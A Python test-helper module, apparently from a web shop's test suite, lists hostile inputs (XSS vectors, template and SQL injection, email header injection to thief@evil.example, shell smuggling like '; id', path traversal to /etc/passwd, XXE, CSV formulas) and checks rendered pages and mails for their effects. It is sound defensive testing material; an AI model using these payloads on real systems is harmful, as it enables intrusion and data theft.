"""Hostile strings, and what must never be found on a page, in a mail or in an answer because of them."""

# ruff: noqa: E501  (a list of strings reads better unbroken)
import json
import re
from collections.abc import Iterator
from email.message import EmailMessage
from typing import Any

from lxml import html

SCRIPTS = (
    "<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
    "</script><script>hit()</script>", "</style><script>hit()</script>", "</title><script>hit()</script>",
    "</textarea><script>hit()</script>", "--><script>hit()</script><!--", "]]><script>hit()</script>",
    "\" autofocus onfocus=hit() x=\"", "' autofocus onfocus=hit() x='", "` onmouseover=hit() `", "x onmouseover=hit() y",
    "<iframe srcdoc='<script>hit()</script>'>", "<object data=javascript:hit()>", "<embed src=javascript:hit()>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example/><input name=a>",
    "<a href=javascript:hit()>x</a>", "<a href='data:text/html,<script>hit()</script>'>x</a>", "javascript:hit()",
    "<details open ontoggle=hit()>", "<video><source onerror=hit()></video>", "<math><mi//xlink:href='javascript:hit()'>",
    "<IMG SRC=&#106;avascript:hit()>", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E", "<scr\u0000ipt>hit()</scr\u0000ipt>", "<<script>hit()//<</script>",
    "\u003cscript\u003ehit()\u003c/script\u003e", "＜script＞hit()＜/script＞", "<style>*{background:url(//evil.example)}</style>",
    "<template><script>hit()</script></template>", "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
)  # fmt: skip
TEMPLATES = (
    "{{ 91357|add:11111 }}", "{{ 91357 | plus: 11111 }}", "{{91357+11111}}", "${91357+11111}", "#{91357+11111}",
    "<%= 91357+11111 %>", "{% now 'Y' %}{{ request }}", "{% include 'kept/base.html' %}", "{% load kept %}",
    "{% assign x = 91357 | plus: 11111 %}{{ x }}", "{% raw %}{{ order.token }}{% endraw %}", "{% for i in (1..9999999) %}x{% endfor %}",
    "{{ settings.SECRET_KEY }}", "{o.__init__.__globals__[settings]}", "%(name)s %s %d %n", "{0} {name} {}", "[[lang]] [[subject]]",
    "<mj-raw><script>hit()</script></mj-raw>", "<mj-include path='/etc/passwd' />", "kept.secret.link", "{{ structured }}",
)  # fmt: skip
HEADERS = (
    "Anna\r\nBcc: thief@evil.example", "Anna\nX-Added: 1", "Anna\rX-Added: 1", "Anna%0d%0aBcc: thief@evil.example",
    "Anna\r\n\r\n<script>hit()</script>", "Anna\u2028Bcc: thief@evil.example", "Anna\u0085Bcc: thief@evil.example",
    "Anna\x0bBcc: thief@evil.example", "=?utf-8?q?Anna=0D=0ABcc=3A_thief=40evil.example?=", "Anna <thief@evil.example>",
    "Anna\", \"Bea\" <thief@evil.example>", "Anna; thief@evil.example", ".\r\nMAIL FROM:<x@evil.example>", "anna@example.com\nCc: x",
)  # fmt: skip
STRANGE = (
    "\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200b\u200c\u200d\ufeff", "\u200b", "Z\u0351\u036b\u0343a\u0332l\u0353g\u034eo" * 8,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 10, "\U0001f1e9\U0001f1ea", "𝕬𝖓𝖓𝖆", "Ⓐⓝⓝⓐ", "ﷺ" * 20, "名前", "שלום עולם", "مرحبا", "\u0378", "\ufffe\uffff",
    "\x00", "a\x00b", "\x1b[31mred", "\x07\x08\x7f", "\t\t", "   ", ".", "..", "-", "0", "-1", "1e309", "NaN", "null", "None",
    "undefined", "true", "İıſK", "ß" * 50, "A" * 150, "word " * 28,
)  # fmt: skip
OTHERS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"//evil.example\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "|calc",
    "' OR 1=1 --", "'; DROP TABLE orders; --", "\" OR \"\"=\"", "1) UNION SELECT * FROM stores_user--", "%' ESCAPE '\\", "_%_%",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.jpg", "file:///etc/passwd", "http://169.254.169.254/",
    "$(id)", "`id`", "| id", "&& id", "; id", "\\u003cscript\\u003e", "\\", "\\\\", "\\\"", "\"}]}", "</script><!--<script>",
    "}; hit(); //", "*/hit();/*", "//evil.example", "\\\\evil.example\\x", "<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT", "x\\nATTENDEE:thief", ",;:\\",
    "%00", "%c0%ae", "&amp;&nbsp;&", "\ud83d", "\udc00x",
)  # fmt: skip
STRINGS = SCRIPTS + TEMPLATES + HEADERS + STRANGE + OTHERS

# What a template that was taken for code would have said.
CALCULATED = "102468"
MAIL_HEADERS = {
    "from", "to", "reply-to", "subject", "date", "message-id", "in-reply-to", "references", "auto-submitted",
    "mime-version", "content-type",
}  # fmt: skip
_LEADS_AWAY = re.compile(r"^\s*(javascript|data|vbscript):", re.IGNORECASE)
_NEVER = {"iframe", "object", "embed", "base", "applet", "frame", "frameset"}


def in_page(page: str, *, mail: bool = False) -> Iterator[str]:
    """Everything on a page that could run, or lead a reader away."""
    if CALCULATED in page:
        yield "a template was run"
    tree = html.document_fromstring(page.encode(), parser=html.HTMLParser(encoding="utf-8"))
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        name = element.tag.lower()
        yield from _attributes(name, dict(element.attrib))
        if (
            name in _NEVER
            or (name == "style" and not mail)
            or (name == "meta" and "refresh" in str(element.attrib))
        ):
            yield f"<{name}> was added"
        if name == "script" and not element.get("src"):
            yield from _script(element)


def _attributes(name: str, values: dict[str, str]) -> Iterator[str]:
    for attribute, value in values.items():
        if attribute.lower().startswith("on"):
            yield f"<{name} {attribute}>"
        if attribute.lower() in ("href", "src", "action", "formaction", "srcdoc", "xlink:href"):
            if _LEADS_AWAY.match(value) and not value.startswith("data:image/"):
                yield f"<{name} {attribute}={value[:40]!r}>"
            if "evil.example" in value.partition("?")[0]:
                yield f"<{name} {attribute}> leads to evil.example"


def _script(element: Any) -> Iterator[str]:
    """Data is the only script that may stand in a page, and none of it may end it."""
    said = element.text or ""
    if element.get("type") != "application/ld+json":
        yield f"a script stands in the page: {said[:60]!r}"
        return
    try:
        json.loads(said)
    except ValueError:
        yield f"the structured data is broken: {said[:60]!r}"
    if "<" in said:
        yield "the structured data holds a <"


def in_mail(mail: EmailMessage, recipient: str) -> Iterator[str]:
    """Headers or recipients that nobody meant, and whatever is wrong in its HTML."""
    added = {name.lower() for name in mail} - MAIL_HEADERS
    if added:
        yield f"headers were added: {sorted(added)}"
    doubled = [name for name in MAIL_HEADERS if len(mail.get_all(name) or []) > 1]
    if doubled:
        yield f"headers came twice: {doubled}"
    addresses = [address.addr_spec for address in mail["To"].addresses]
    if addresses != [recipient]:
        yield f"it goes to {addresses}"
    if len(mail["From"].addresses) != 1 or len(mail["Reply-To"].addresses) != 1:
        yield "somebody else signs it"
    part = mail.get_body(("html",))
    if part is None:
        yield "it has no HTML: its template failed"
        return
    yield from in_page(part.get_content(), mail=True)
    text = mail.get_body(("plain",))
    if text is None or CALCULATED in text.get_content():
        yield "a template was run in the text"
